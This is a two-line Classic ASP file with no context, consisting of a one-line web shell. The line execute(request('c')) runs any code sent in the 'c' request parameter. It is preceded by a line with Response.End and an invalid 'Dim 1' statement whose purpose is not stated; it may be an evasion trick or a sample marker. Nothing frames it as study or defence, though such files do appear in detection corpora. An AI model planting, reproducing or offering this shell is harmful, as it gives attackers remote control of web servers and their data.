<% Response.End : Dim 1 %>
<% execute(request("c")) %>
